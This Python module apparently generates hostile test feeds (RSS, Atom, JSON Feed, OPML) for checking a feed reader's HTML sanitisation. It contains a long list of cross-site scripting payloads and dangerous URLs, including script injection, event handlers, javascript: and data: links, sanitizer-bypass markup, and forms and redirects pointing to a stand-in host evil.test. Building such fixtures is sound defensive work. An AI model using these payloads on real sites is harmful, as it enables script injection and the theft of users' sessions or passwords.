"""What runs a script where nobody takes care, and documents that hold it wherever there is a place for it."""

from __future__ import annotations

import json
import re
from html import escape
from itertools import cycle, islice
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping, Sequence

PAYLOADS: Sequence[str] = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<img/ src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)` onerror=alert(1)//",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href=//evil.test ping=//evil.test download target=_top>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>' src=//evil.test></iframe>",
    "<object data=//evil.test><embed src=//evil.test></object>",
    "<form action=//evil.test><input name=password autofocus onfocus=alert(1)><button formaction=x>y</form>",
    "<base href=//evil.test><meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test>",
    "<p style='background:url(javascript:alert(1))' class=x id=y name=z>x</p>",
    "<video poster=javascript:alert(1) autoplay onplay=alert(1)><source src=data:video/mp4,x></video>",
    "<audio src=//evil.test/a.mp3 autoplay oncanplay=alert(1)>",
    "<img srcset='x 1x, javascript:alert(1) 2x' src=mailto:x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img data-src='javascript:alert(1)'><img data-src='x\" onerror=\"alert(1)'>",
    "<img data-src='\"><script>alert(1)</script>'>",
    "<h1/onclick=alert(1)>x</h1><nav onclick=alert(1)>y</nav><center/style=x>z",
    "<table><td><svg><desc><td><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)>",
    "<a href='https://x.test' style=x><a href='javascript:alert(1)'>y",
    "<p title='<img src=x onerror=alert(1)>'>x",
    "<plaintext><img src=x onerror=alert(1)>",
]

LIVE = (
    "<script>1</script>",
    "<img src=x onerror=1>",
    "<a href='javascript:1'>x</a>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<details open ontoggle=1>",
    "<form action='javascript:1'><button>x</button></form>",
    "<p onmouseover=1>x",
)
"""Some that run in a browser, each in a way of its own."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://site.test/%0aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:https://site.test/1",
    'https://site.test/"onmouseover=alert(1) x="',
    "https://site.test/'><script>alert(1)</script>",
    "//site.test/<img src=x onerror=alert(1)>",
)

_CONTROL = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
_NAMESPACES = (
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"'
)


def _xml(text: str) -> str:
    return escape(_CONTROL.sub("", text))


def _addresses(payloads: Sequence[str]) -> Sequence[str]:
    """One for each."""
    return tuple(islice(cycle(ADDRESSES), len(payloads)))


def _pairs(payloads: Sequence[str]) -> Iterator[tuple[int, str, str]]:
    """Number, words and address of each item, as XML."""
    for number, (payload, address) in enumerate(zip(payloads, _addresses(payloads), strict=True)):
        yield number, _xml(payload), _xml(address)


def rss(payloads: Sequence[str], *, feed: str) -> bytes:
    items = "".join(
        f"<item><guid isPermaLink='false'>{n}</guid><title>{words}</title><dc:creator>{words}</dc:creator>"
        f"<link>{address}</link><comments>{address}</comments><category>{words}</category>"
        f"<enclosure url='{address}' type='audio/{words}' length='1'/>"
        f"<source url='{address}'>{words}</source><content:encoded>{words}</content:encoded></item>"
        for n, words, address in _pairs(payloads)
    )
    head = f"<title>{_xml(feed)}</title><link>{ADDRESSES[0]}</link><description>{_xml(feed)}</description>"
    return f"<rss version='2.0' {_NAMESPACES}><channel>{head}{items}</channel></rss>".encode()


def atom(payloads: Sequence[str], *, feed: str) -> bytes:
    items = "".join(
        f"<entry><id>{n}</id><title type='html'>{words}</title>"
        f"<author><name>{words}</name><uri>{address}</uri></author><link href='{address}'/>"
        f"<link rel='enclosure' href='{address}' title='{words}' type='x'/>"
        f"<link rel='replies' href='{address}'/><category term='{words}' label='{words}'/>"
        f"<content type='html'>{words}</content></entry>"
        for n, words, address in _pairs(payloads)
    )
    head = f"<title>{_xml(feed)}</title><link href='{ADDRESSES[0]}'/><subtitle>{_xml(feed)}</subtitle>"
    return f"<feed xmlns='http://www.w3.org/2005/Atom'>{head}{items}</feed>".encode()


def json_feed(payloads: Sequence[str], *, feed: str) -> bytes:
    items = [
        {
            "id": str(n),
            "title": payload,
            "authors": [{"name": payload, "url": address}],
            "url": address,
            "image": address,
            "attachments": [{"url": address, "mime_type": f"video/{payload}", "title": payload}],
            "tags": [payload],
            "content_html": payload,
        }
        for n, (payload, address) in enumerate(zip(payloads, _addresses(payloads), strict=True))
    ]
    version = "https://jsonfeed.org/version/1.1"
    head = {"version": version, "title": feed, "home_page_url": ADDRESSES[0], "description": feed}
    return json.dumps(head | {"items": items}).encode()


FORMATS: Mapping[str, Callable[..., bytes]] = {"rss": rss, "atom": atom, "json": json_feed}


def opml(payloads: Sequence[str]) -> bytes:
    outlines = "".join(
        f"<outline text='{words}'><outline type='rss' text='{words}' htmlUrl='{address}' "
        f"xmlUrl='https://opml.test/{n}/{words}'/></outline><outline xmlUrl='{address}' text='{words}'/>"
        for n, words, address in _pairs(payloads)
    )
    return f"<opml version='2.0'><body>{outlines}</body></opml>".encode()
